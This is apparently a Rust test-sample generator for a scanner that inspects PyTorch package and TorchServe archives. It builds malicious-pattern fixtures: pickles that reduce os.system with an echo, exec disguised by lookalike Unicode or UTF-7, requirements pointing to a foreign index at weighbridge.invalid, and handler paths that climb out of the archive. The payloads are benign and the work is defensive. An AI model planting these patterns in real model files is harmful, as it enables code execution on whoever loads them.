//! `torch.package` and TorchServe archives.

use super::{HONEST, Member, checkpoint, instance, mar, package};
use crate::Samples;
use crate::numpy::{PICKLE_RULES, echo, plain};
use crate::pickle_asm::Asm;

/// Packages whose pickle uses what their sources define or take in.
pub(super) fn packages(out: &mut Samples) {
    out.silent(
        "model-pickle-unknown-call",
        "own-class-of-package.pt",
        package(HONEST, &instance()),
    );
    let taken = "from os import system\n";
    let through = |name: &str| {
        Asm::proto(4)
            .stack_global("net.model", name)
            .str("echo weighbridge")
            .tuple1()
            .reduce()
            .stop()
    };
    let technique = "26-torch-package";
    out.attack(
        technique,
        "imported-name.pt",
        package(taken, &through("system")),
        &["model-code-dangerous"],
    );
    out.attack(
        technique,
        "all-names.pt",
        package("from os import *\n", &through("system")),
        &["model-code-dangerous"],
    );
    let ladder = &["model-pickle-runs-commands", "model-pickle-unknown-call"];
    out.attack(
        technique,
        "ladder-in-pickle.pt",
        package("import os\n", &through("os.system")),
        ladder,
    );
    let foreign = Asm::proto(2)
        .global("other.model", "Net")
        .empty_tuple()
        .newobj()
        .stop();
    out.attack(
        technique,
        "class-from-elsewhere.pt",
        package(HONEST, &foreign),
        &["model-pickle-unknown-call"],
    );
}

pub(super) fn milder_code(out: &mut Samples) {
    let brings = "model-brings-code";
    out.fires(brings, "package.pt", package(HONEST, &plain()));
    out.fires(
        brings,
        "handler.mar",
        mar("net.py", &[("net.py", HONEST.as_bytes())]),
    );
    out.silent(brings, "empty-module.pt", package("", &plain()));
    out.silent(
        brings,
        "built-in.mar",
        mar("image_classifier", &[("model.pkl", &plain())]),
    );

    let remarkable = "model-code-remarkable";
    let loads = "import joblib, os\nx = joblib.load('scaler.joblib')\nos.remove('a')\n";
    out.fires(
        remarkable,
        "loads.mar",
        mar("net.py", &[("net.py", loads.as_bytes())]),
    );
    out.silent(
        remarkable,
        "honest.mar",
        mar("net.py", &[("net.py", HONEST.as_bytes())]),
    );

    let disguised = "model-code-disguised";
    let letters = "\u{1d49}xec('print(1)')\n";
    let encoding = "# -*- coding: utf-7 -*-\n+AGU-xec('print(1)')\n";
    for (name, source) in [("letters.pt", letters), ("utf-7.pt", encoding)] {
        out.fires(disguised, name, package(source, &plain()));
        out.attack(
            "26-torch-package",
            &format!("disguised-{name}"),
            package(source, &plain()),
            &["model-code-disguised"],
        );
    }
    let plain_encoding = "# -*- coding: utf-8 -*-\ngr\u{f6}\u{df}e = 'encoding: utf-7'\n";
    out.silent(disguised, "umlauts.pt", package(plain_encoding, &plain()));
}

pub(super) fn torchserve(out: &mut Samples) {
    let honest: Member<'_> = ("net.py", HONEST.as_bytes());
    let with_requirements = |lines: &str| mar("net.py", &[honest, ("requirements.txt", lines.as_bytes())]);
    let ordinary = "# what we need\nnumpy==1.26.4\ntorch\n";

    out.fires(
        "model-mar-requirements",
        "ordinary.mar",
        with_requirements(ordinary),
    );
    out.silent("model-mar-requirements", "none.mar", mar("net.py", &[honest]));
    out.silent(
        "model-mar-requirements",
        "comment.mar",
        with_requirements("# nothing\n\n"),
    );

    let foreign = "model-mar-requirements-foreign";
    for (name, lines) in [
        (
            "index.mar",
            "--extra-index-url https://weighbridge.invalid/simple\nnumpy\n",
        ),
        (
            "joined-line.mar",
            "--index-url \\\n  https://weighbridge.invalid/simple\n",
        ),
        ("git.mar", "git+https://weighbridge.invalid/a.git\n"),
        ("wheel.mar", "./evil-1.0-py3-none-any.whl\n"),
    ] {
        out.fires(foreign, name, with_requirements(lines));
        out.attack(
            "38-torchserve",
            &format!("requirements-{name}"),
            with_requirements(lines),
            &["model-mar-requirements-foreign"],
        );
    }
    out.silent(foreign, "ordinary.mar", with_requirements(ordinary));

    let outside = "model-mar-path-outside";
    for (name, handler) in [
        ("climbs.mar", "../../evil.py:handle"),
        ("absolute.mar", "/tmp/weighbridge-none.py"),
    ] {
        out.fires(outside, name, mar(handler, &[]));
        out.attack(
            "38-torchserve",
            &format!("handler-{name}"),
            mar(handler, &[]),
            &["model-mar-path-outside"],
        );
    }
    out.silent(outside, "inside.mar", mar("net.py:handle", &[honest]));
    out.fires("model-mar-handler-missing", "missing.mar", mar("evil.py", &[]));
    out.silent(
        "model-mar-handler-missing",
        "function.mar",
        mar("net.py:handle", &[honest]),
    );
    out.silent(
        "model-mar-handler-missing",
        "module.mar",
        mar("net:handle", &[honest]),
    );
    out.silent(
        "model-mar-handler-missing",
        "built-in.mar",
        mar("text_classifier", &[]),
    );

    let nested = mar(
        "image_classifier",
        &[("model.pth", &checkpoint(&[("archive/evil.pkl", &echo())]))],
    );
    out.attack("38-torchserve", "nested-checkpoint.mar", nested, PICKLE_RULES);
}
